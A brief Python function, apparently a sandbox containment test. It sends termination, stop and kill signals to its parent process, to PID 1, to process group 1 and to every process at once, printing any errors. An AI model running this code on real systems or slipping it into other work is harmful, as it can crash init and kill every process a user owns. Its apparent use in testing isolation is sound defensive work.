"""Sends signals to its parent, its group, its session, and everyone."""


def cell():
    import os
    import signal

    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        for send, target in ((os.kill, os.getppid()), (os.kill, 1), (os.killpg, 1), (os.kill, -1)):
            try:
                send(target, number)
            except OSError as error:
                print(error)
